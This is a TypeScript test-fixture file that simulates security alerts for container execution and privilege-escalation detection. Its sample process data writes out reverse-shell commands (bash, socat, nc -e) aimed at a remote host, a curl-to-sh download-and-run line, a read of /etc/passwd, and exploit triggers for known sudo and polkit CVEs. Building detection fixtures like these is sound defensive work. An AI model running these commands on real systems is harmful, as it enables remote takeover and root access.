import type { DetectorFixtures } from './detector-fixtures.ts';
import { outbound, parent, program } from './detector-fixtures-parts.ts';

const execution = {
  primaryTactic: 'EXECUTION',
  primaryTechniques: ['COMMAND_AND_SCRIPTING_INTERPRETER'],
} as const;

/** Someone gives commands over a connection, breaks out, or becomes root. */
export const executionFixtures: DetectorFixtures = {
  CLOUD_RUN_REVERSE_SHELL: {
    category: 'Reverse Shell',
    severity: 'CRITICAL',
    description: 'A process was started with its streams redirected to a remote socket.',
    playbook: 'reverse-shell',
    recommends: 'end',
    says: (facts) => ({
      processes: [parent(facts, ['/usr/local/bin/node', 'server.js']), program(facts, ['/bin/bash', '-i'])],
      connections: [outbound(facts)],
      indicator: { ipAddresses: [facts.ip] },
      mitreAttack: {
        ...execution,
        additionalTactics: ['COMMAND_AND_CONTROL'],
        additionalTechniques: ['INGRESS_TOOL_TRANSFER'],
      },
      sourceProperties: {
        Reverse_Shell_Stdin_Redirection_Dst_Ip: facts.ip,
        Reverse_Shell_Stdin_Redirection_Dst_Port: facts.port,
        Reverse_Shell_Stdin_Redirection_Src_Ip: '192.0.2.17',
        Reverse_Shell_Stdin_Redirection_Src_Port: 38_114,
        Container_Image_Uri: facts.imageUri,
      },
    }),
  },
  CLOUD_RUN_SOCAT_REVERSE_SHELL_DETECTED: {
    category: 'Execution: Socat Reverse Shell Detected',
    severity: 'MEDIUM',
    description: 'socat started a shell.',
    playbook: 'reverse-shell',
    recommends: 'end',
    says: (facts) => ({
      processes: [
        parent(facts, ['/usr/bin/socat', `tcp-connect:${facts.ip}:${facts.port}`, 'exec:/bin/sh,pty,stderr']),
        program(facts, ['/bin/sh']),
      ],
      connections: [outbound(facts)],
    }),
  },
  CLOUD_RUN_NETCAT_REMOTE_CODE_EXECUTION_IN_CONTAINER: {
    category: 'Execution: Netcat Remote Code Execution in Container',
    severity: 'LOW',
    description: 'netcat was run in a container.',
    playbook: 'remote-command',
    recommends: 'end',
    says: (facts) => ({
      processes: [program(facts, ['/bin/nc', '-e', '/bin/sh', facts.ip, String(facts.port)])],
      connections: [outbound(facts)],
    }),
  },
  CLOUD_RUN_POSSIBLE_ARBITRARY_COMMAND_EXECUTION_THROUGH_CUPS: {
    category: 'Execution: Possible Arbitrary Command Execution through CUPS (CVE-2024-47076)',
    severity: 'CRITICAL',
    description: 'foomatic-rip started a shell.',
    playbook: 'remote-command',
    recommends: 'end',
    says: (facts) => ({
      processes: [
        parent(facts, ['/usr/lib/cups/filter/foomatic-rip', 'printer-7']),
        program(facts, ['/bin/sh', '-c', `curl -s http://${facts.host}/p | sh`]),
      ],
    }),
  },
  CLOUD_RUN_POSSIBLE_REMOTE_COMMAND_EXECUTION_DETECTED: {
    category: 'Execution: Possible Remote Command Execution Detected',
    severity: 'MEDIUM',
    description: 'Common UNIX commands were started over a network socket.',
    playbook: 'remote-command',
    recommends: 'end',
    says: (facts) => ({
      processes: [program(facts, ['/usr/bin/id']), program(facts, ['/usr/bin/whoami'], { pid: '213' })],
      connections: [outbound(facts)],
      mitreAttack: execution,
    }),
  },
  CLOUD_RUN_UNEXPECTED_CHILD_SHELL: {
    category: 'Unexpected Child Shell',
    severity: 'CRITICAL',
    description: 'A process that normally starts none started a shell.',
    playbook: 'remote-command',
    recommends: 'end',
    says: (facts) => ({
      processes: [
        parent(facts, ['/usr/sbin/nginx', '-g', 'daemon off;']),
        program(facts, ['/bin/dash', '-c', 'uname -a; cat /etc/passwd']),
      ],
    }),
  },
  CLOUD_RUN_CONTAINER_ESCAPE: {
    category: 'Execution: Container Escape',
    severity: 'HIGH',
    description: 'A tool that is known for breaking out of containers was run.',
    playbook: 'container-escape',
    recommends: 'end',
    says: (facts) => ({
      processes: [program(facts, ['/tmp/.x/escape', '--mount', '/host', '--yes'], { userId: '0' })],
    }),
  },
  CLOUD_RUN_KUBERNETES_ATTACK_TOOL_EXECUTION: {
    category: 'Execution: Kubernetes Attack Tool Execution',
    severity: 'CRITICAL',
    description: 'A tool that is known for attacks on Kubernetes was run.',
    playbook: 'container-escape',
    recommends: 'end',
    says: (facts) => ({ processes: [program(facts, ['/tmp/kube-hunter', '--pod', '--active'])] }),
  },
  CLOUD_RUN_ABUSE_SUDO_FOR_PRIVILEGE_ESCALATION: {
    category: 'Privilege Escalation: Abuse of Sudo For Privilege Escalation (CVE-2019-14287)',
    severity: 'CRITICAL',
    description: 'sudo was run with a user id that stands for root in old versions.',
    playbook: 'privilege-escalation',
    recommends: 'end',
    says: (facts) => ({ processes: [program(facts, ['/usr/bin/sudo', '-u#-1', '/bin/bash'])] }),
  },
  CLOUD_RUN_POLKIT_LOCAL_PRIVILEGE_ESCALATION_VULNERABILITY: {
    category: 'Privilege Escalation: Polkit Local Privilege Escalation Vulnerability (CVE-2021-4034)',
    severity: 'CRITICAL',
    description: 'pkexec was run with GCONV_PATH set.',
    playbook: 'privilege-escalation',
    recommends: 'end',
    says: (facts) => ({
      processes: [program(facts, ['/usr/bin/pkexec'], { envVariables: [{ name: 'GCONV_PATH', val: './pwnkit' }] })],
    }),
  },
  CLOUD_RUN_SUDO_POTENTIAL_PRIVILEGE_ESCALATION: {
    category: 'Privilege Escalation: Sudo Potential Privilege Escalation (CVE-2021-3156)',
    severity: 'CRITICAL',
    description: 'sudoedit was run with arguments that overflow its buffer in old versions.',
    playbook: 'privilege-escalation',
    recommends: 'end',
    says: (facts) => ({ processes: [program(facts, ['/usr/bin/sudoedit', '-s', `${'A'.repeat(64)}\\`])] }),
  },
};
